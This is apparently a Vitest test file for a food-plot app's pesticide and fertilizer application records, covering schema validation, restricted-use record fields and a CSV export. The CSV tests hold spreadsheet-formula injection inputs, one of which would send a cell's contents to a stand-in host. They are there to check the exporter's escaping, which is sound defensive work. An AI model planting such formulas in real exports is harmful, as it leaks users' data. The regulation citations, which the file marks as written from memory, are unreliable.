// Application records, without a database: the shared schema, the federal restricted-use record items,
// the CSV builder (checked by parsing it back with papaparse's own parser) and the draft's weather.
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { ApplicationRecordDto } from '@/lib/data/application-records';
import { RECORD_CSV_COLUMNS, recordsCsvFilename, recordsToCsv } from '@/lib/records/csv';
import { buildRecordDraft, weatherAt } from '@/lib/records/draft';
import type { ForecastHour } from '@/lib/schedule/types';
import { fieldErrors } from '@/lib/validations/common';
import {
  applicationCorrectionSchema, applicationRecordSchema, RECORD_FIELD_NAMES, recordFiltersSchema,
} from '@/lib/validations/application-record';

const PLOT_ID = '6f1c1f0e-8d4a-4c57-9a43-3b8f7f0d2a11';

const HERBICIDE = {
  kind: 'herbicide',
  plotId: PLOT_ID,
  appliedOn: '2027-08-20',
  appliedTime: '09:30',
  areaAcres: 0.5,
  productName: 'Glyphosate 41% (generic)',
  activeIngredientPct: 41,
  rateValue: 48,
  rateUnit: 'fl oz/acre',
  totalProductValue: 24,
  totalProductUnit: 'fl oz',
  waterGal: 7.5,
  applicatorName: 'Pat Field',
};

const errorsOf = (input: unknown, schema = applicationRecordSchema) => {
  const result = schema.safeParse(input);
  return result.success ? {} : fieldErrors(result.error);
};

describe('applicationRecordSchema', () => {
  it('takes a plain herbicide record and fills restricted use as false', () => {
    const parsed = applicationRecordSchema.parse(HERBICIDE);
    expect(parsed.restrictedUse).toBe(false);
    expect(parsed.epaRegNo).toBeUndefined();
  });

  it('names the field that is wrong', () => {
    expect(errorsOf({ ...HERBICIDE, productName: ' ' }).productName).toBe('Product name is required');
    expect(errorsOf({ ...HERBICIDE, areaAcres: 0 }).areaAcres).toMatch(/Area treated must be at least/);
    expect(errorsOf({ ...HERBICIDE, appliedOn: '2027-02-30' }).appliedOn).toMatch(/real date/);
    expect(errorsOf({ ...HERBICIDE, appliedTime: '25:00' }).appliedTime).toMatch(/time of day/);
    expect(errorsOf({ ...HERBICIDE, rateUnit: 'bushels' }).rateUnit).toMatch(/Rate unit must be one of/);
    expect(errorsOf({ ...HERBICIDE, humidityPct: 140 }).humidityPct).toBe('Humidity must be at most 100 %');
    expect(errorsOf({ ...HERBICIDE, windDirection: 'up' }).windDirection).toMatch(/compass point/);
    expect(errorsOf({ ...HERBICIDE, epaRegNo: 'ABC' }).epaRegNo).toMatch(/524-445/);
    expect(JSON.stringify(errorsOf({ ...HERBICIDE, colour: 'red' }))).toMatch(/colour/);
  });

  it('accepts EPA registration numbers in the label format (company-product, and a distributor’s third part)', () => {
    // Format from memory of 40 CFR 152.132 (distributor products) and pesticide labels.
    for (const ok of ['524-445', '100-1070', '524-445-12345']) expect(errorsOf({ ...HERBICIDE, epaRegNo: ok }).epaRegNo, ok).toBeUndefined();
    for (const bad of ['524', '524-', '-445', '524 445', 'EPA 524-445']) expect(errorsOf({ ...HERBICIDE, epaRegNo: bad }).epaRegNo, bad).toBeDefined();
  });

  it('a restricted-use record needs the EPA registration number, the certification number and the site', () => {
    const e = errorsOf({ ...HERBICIDE, restrictedUse: true });
    expect(e.epaRegNo).toMatch(/EPA registration number/);
    expect(e.applicatorLicense).toMatch(/certified applicator/);
    expect(e.site).toMatch(/crop or site/);
    expect(errorsOf({ ...HERBICIDE, restrictedUse: true, epaRegNo: '100-1070', applicatorLicense: 'C-12345', site: 'Food plot' })).toEqual({});
  });

  it('fertilizer and lime are never restricted use, and are not given as a percent of spray', () => {
    const lime = { ...HERBICIDE, kind: 'lime', productName: 'Agricultural lime', rateValue: 2, rateUnit: 'tons/acre', totalProductValue: 2000, totalProductUnit: 'lb' };
    expect(errorsOf(lime)).toEqual({});
    expect(errorsOf({ ...lime, restrictedUse: true, epaRegNo: '1-1', applicatorLicense: 'x', site: 'y' }).restrictedUse).toMatch(/Only a pesticide/);
    expect(errorsOf({ ...lime, rateUnit: '% v/v' }).rateUnit).toMatch(/per acre/);
  });

  it('a weather source needs a weather reading', () => {
    expect(errorsOf({ ...HERBICIDE, weatherSource: 'forecast' }).weatherSource).toMatch(/at least one weather reading/);
    expect(errorsOf({ ...HERBICIDE, weatherSource: 'forecast', windMph: 4.2 })).toEqual({});
  });

  it('a correction needs its reason', () => {
    expect(errorsOf(HERBICIDE, applicationCorrectionSchema).correctionReason).toBe('Reason for the correction is required');
    expect(errorsOf({ ...HERBICIDE, correctionReason: 'Rate was 32, not 48' }, applicationCorrectionSchema)).toEqual({});
  });

  it('filters: dates in order, a real plot id and kind', () => {
    expect(recordFiltersSchema.parse({ from: '', to: '', plot: '', kind: '' })).toEqual({});
    const bad = recordFiltersSchema.safeParse({ from: '2027-09-02', to: '2027-09-01', kind: 'seed' });
    expect(bad.success).toBe(false);
    const e = fieldErrors(bad.error!);
    expect(e.kind).toMatch(/Kind filter/);
  });
});

// 7 CFR 110.3(a), the records a certified applicator keeps of each restricted-use pesticide application,
// cited FROM MEMORY (the wording is close to the regulation's; the numbering of (1)–(8) may differ from the
// published text): (1) brand or product name, (2) EPA registration number, (3) total amount applied,
// (4) location of the application, (5) size of the area treated, (6) crop, commodity, stored product or
// site, (7) month, day and year, (8) name and certification number of the certified applicator.
const CFR_110_3: { item: string; schema: string[]; csv: string[] }[] = [
  { item: '(a)(1) brand or product name', schema: ['productName'], csv: ['product_name'] },
  { item: '(a)(2) EPA registration number', schema: ['epaRegNo'], csv: ['epa_reg_no'] },
  { item: '(a)(3) total amount applied', schema: ['totalProductValue', 'totalProductUnit'], csv: ['total_product_value', 'total_product_unit'] },
  { item: '(a)(4) location of the application', schema: ['plotId', 'location'], csv: ['plot', 'location'] },
  { item: '(a)(5) size of the area treated', schema: ['areaAcres'], csv: ['area_acres'] },
  { item: '(a)(6) crop, commodity, stored product or site', schema: ['site'], csv: ['crop_or_site'] },
  { item: '(a)(7) month, day and year of the application', schema: ['appliedOn'], csv: ['applied_date_local'] },
  { item: '(a)(8) name and certification number of the certified applicator', schema: ['applicatorName', 'applicatorLicense'], csv: ['applicator_name', 'applicator_certification_no'] },
];

describe('7 CFR 110.3 coverage (from memory)', () => {
  const headers = RECORD_CSV_COLUMNS.map((c) => c.header);
  for (const entry of CFR_110_3) {
    it(`${entry.item}: a schema field and a CSV column`, () => {
      for (const field of entry.schema) expect(RECORD_FIELD_NAMES, field).toContain(field);
      for (const field of entry.schema) expect(Object.keys(applicationRecordSchema.shape), field).toContain(field);
      for (const column of entry.csv) expect(headers, column).toContain(column);
    });
  }

  it('a restricted-use record without (a)(2) or (a)(8)’s certification number is refused', () => {
    const e = errorsOf({ ...HERBICIDE, restrictedUse: true, site: 'Food plot' });
    expect(Object.keys(e).sort()).toEqual(['applicatorLicense', 'epaRegNo']);
  });
});

function dto(over: Partial<ApplicationRecordDto> = {}): ApplicationRecordDto {
  return {
    id: 'b3f7a2f4-3f0d-4a3c-9b0f-2c1e6a4d5e01',
    propertyId: 'c0a80121-0000-4000-8000-000000000001',
    plotId: PLOT_ID,
    plotName: 'Creekside strip',
    stepId: null,
    supersedesId: null,
    correctionReason: null,
    supersededBy: null,
    kind: 'herbicide',
    appliedAt: '2027-08-20T14:30:00.000Z',
    appliedOn: '2027-08-20',
    appliedTime: '09:30',
    timeZone: 'America/Chicago',
    areaAcres: 0.5,
    location: null,
    site: 'Wildlife food plot',
    productName: 'Glyphosate 41% (generic)',
    epaRegNo: '524-445',
    restrictedUse: false,
    activeIngredientPct: 41,
    rateValue: 48,
    rateUnit: 'fl oz/acre',
    totalProductValue: 24,
    totalProductUnit: 'fl oz',
    waterGal: 7.5,
    sprayer: '25 gal tank at 15 gal/acre',
    applicatorName: 'Pat Field',
    applicatorLicense: null,
    windMph: 6.2,
    windDirection: 'NW',
    airTempF: -3.5,
    humidityPct: 60,
    weatherSource: 'forecast',
    notes: 'Edges by hand, "careful" near the creek,\nthen the middle; café',
    recordedBy: { id: 'd1', name: 'Pat Field' },
    recordedAt: '2027-08-20T15:02:11.123Z',
    ...over,
  };
}

describe('recordsToCsv', () => {
  it('parses back with papaparse into one row per record and the columns in order', () => {
    const csv = recordsToCsv([dto(), dto({ id: 'x2', supersededBy: { id: 'x3', recordedAt: '2027-08-21T00:00:00.000Z' } })]);
    const parsed = Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true });
    expect(parsed.errors).toEqual([]);
    expect(parsed.meta.fields).toEqual(RECORD_CSV_COLUMNS.map((c) => c.header));
    expect(parsed.data).toHaveLength(2);
    const [row, corrected] = parsed.data;
    // Quotes, commas, a line break and non-ASCII text come back as they went in (RFC 4180 §2 quoting).
    expect(row.notes).toBe(dto().notes);
    expect(row.status).toBe('current');
    expect(corrected.status).toBe('corrected');
    expect(corrected.corrected_by_record_id).toBe('x3');
    // Numbers as JavaScript writes them (shortest round-trip form, ECMA-262 Number::toString).
    expect(Number(row.air_temp_f)).toBe(-3.5);
    expect(Number(row.wind_mph)).toBe(6.2);
    expect(row.restricted_use).toBe('false');
    expect(row.applicator_certification_no).toBe('');
  });

  it('gives the instant in UTC, the local date and time, the zone, and an ISO 8601 local time with its offset', () => {
    const [row] = Papa.parse<Record<string, string>>(recordsToCsv([dto()]), { header: true, skipEmptyLines: true }).data;
    expect(row.applied_at_utc).toBe('2027-08-20T14:30:00.000Z');
    // Chicago keeps daylight time (UTC−5) in August: IANA tz database, America/Chicago.
    expect(row.applied_at_local).toBe('2027-08-20T09:30:00-05:00');
    expect(Date.parse(row.applied_at_local)).toBe(Date.parse(row.applied_at_utc));
    expect([row.applied_date_local, row.applied_time_local, row.time_zone]).toEqual(['2027-08-20', '09:30', 'America/Chicago']);
  });

  it('puts an apostrophe before text a spreadsheet would run as a formula (OWASP, CSV injection)', () => {
    const [row] = Papa.parse<Record<string, string>>(recordsToCsv([dto({ notes: '=HYPERLINK("http://x")', sprayer: '@pack' })]), { header: true }).data;
    expect(row.notes).toBe('\'=HYPERLINK("http://x")');
    expect(row.sprayer).toBe("'@pack");
    expect(row.air_temp_f).toBe('-3.5');
  });

  it('escapes a formula that goes on over several lines too (OWASP, CSV injection; papaparse’s pattern is single-line)', () => {
    const notes = '=HYPERLINK("http://example.test/?d="&B2,"open")\nsprayed along the creek';
    const [row] = Papa.parse<Record<string, string>>(recordsToCsv([dto({ notes, location: '+1\n2' })]), { header: true }).data;
    expect(row.notes).toBe(`'${notes}`);
    expect(row.location).toBe("'+1\n2");
  });

  it('writes CRLF line ends (RFC 4180 §2.1) and a header row', () => {
    const csv = recordsToCsv([dto({ notes: null })]);
    expect(csv.split('\r\n')[0].split(',')[0]).toBe('record_id');
    expect(csv.split('\r\n')).toHaveLength(2);
  });

  it('names the file after the property, in ASCII', () => {
    expect(recordsCsvFilename('Foxglove Hollow Lease', '2027-08-20')).toBe('sowcast-records-foxglove-hollow-lease-2027-08-20.csv');
    expect(recordsCsvFilename('Café "Nord"', '2027-08-20')).toBe('sowcast-records-cafe-nord-2027-08-20.csv');
  });
});

describe('the record draft', () => {
  const hour = (time: string, over: Partial<ForecastHour> = {}): ForecastHour => ({
    time, rainMm: 0, rainProbabilityPct: 10, airTempC: 20, relativeHumidityPct: 55.4, windKmh: 10, ...over,
  });
  const hours = [hour('2027-08-20T14:00:00Z'), hour('2027-08-20T15:00:00Z', { airTempC: 25, windKmh: 16.09344 })];

  it('takes the nearest forecast hour and converts it: km/h → mph (1 mi = 1.609344 km, exact), °C → °F', () => {
    // NIST SP 811 B.8: 1 mile = 1609.344 m; t/°F = 1.8 t/°C + 32.
    const w = weatherAt(hours, '2027-08-20T06:00:00Z', new Date('2027-08-20T14:20:00Z'))!;
    expect(w).toMatchObject({ hour: '2027-08-20T14:00:00.000Z', windMph: 6.2, airTempF: 68, humidityPct: 55 });
    const later = weatherAt(hours, '2027-08-20T06:00:00Z', new Date('2027-08-20T14:40:00Z'))!;
    expect(later).toMatchObject({ hour: '2027-08-20T15:00:00.000Z', windMph: 10, airTempF: 77 });
  });

  it('has no weather for an hour the forecast does not cover', () => {
    expect(weatherAt(hours, '2027-08-20T06:00:00Z', new Date('2027-08-20T16:31:00Z'))).toBeNull();
    expect(weatherAt([], '2027-08-20T06:00:00Z', new Date('2027-08-20T14:00:00Z'))).toBeNull();
  });

  it('fills product, rate, totals and area from a spray step of the plan', () => {
    const draft = buildRecordDraft({
      step: {
        id: '0b9d2c7e-5a61-4f3e-8f0c-9e2d1b7a6c55',
        kind: 'spray',
        quantities: [
          { item: 'sprayer fills', amount: 1, unit: 'fills', detail: '' },
          { item: 'Glyphosate 41% (generic)', amount: 24, unit: 'fl oz', detail: '' },
          { item: 'water', amount: 7.3125, unit: 'gal', detail: '' },
        ],
      },
      form: {
        season: 'fall', method: 'spray-and-seed', blend: [{ speciesId: 'white-clover', share: 1 }], targetSeedDate: '2027-09-01',
        herbicide: { productName: 'Glyphosate 41% (generic)', activeIngredientPct: 41, rateKind: 'fl-oz-per-acre', rate: 48 },
        sprayer: { tankGal: 25, carrierGalPerAcre: 15 },
      },
      plot: { id: PLOT_ID, name: 'Creekside strip', acres: 0.5 },
      applicatorName: 'Pat Field',
      at: new Date('2027-08-20T14:30:00Z'),
      timeZone: 'America/Chicago',
      weather: weatherAt(hours, '2027-08-20T06:00:00Z', new Date('2027-08-20T14:30:00Z')),
    })!;
    expect(draft).toMatchObject({
      kind: 'herbicide', appliedOn: '2027-08-20', appliedTime: '09:30', areaAcres: 0.5, productName: 'Glyphosate 41% (generic)',
      rateValue: 48, rateUnit: 'fl oz/acre', totalProductValue: 24, totalProductUnit: 'fl oz', waterGal: 7.31, weatherSource: 'forecast',
    });
    // The draft passes the shared schema once the person adds nothing: it is a record ready to save.
    const { plotName: _plotName, ...body } = draft;
    expect(errorsOf({ ...body, windDirection: undefined })).toEqual({});
  });

  it('has no draft for a step that is not an application', () => {
    expect(buildRecordDraft({ step: { id: 's', kind: 'seed', quantities: [] }, form: null, plot: { id: PLOT_ID, name: 'p', acres: 1 }, applicatorName: 'x', at: new Date(), timeZone: 'UTC', weather: null })).toBeNull();
  });
});
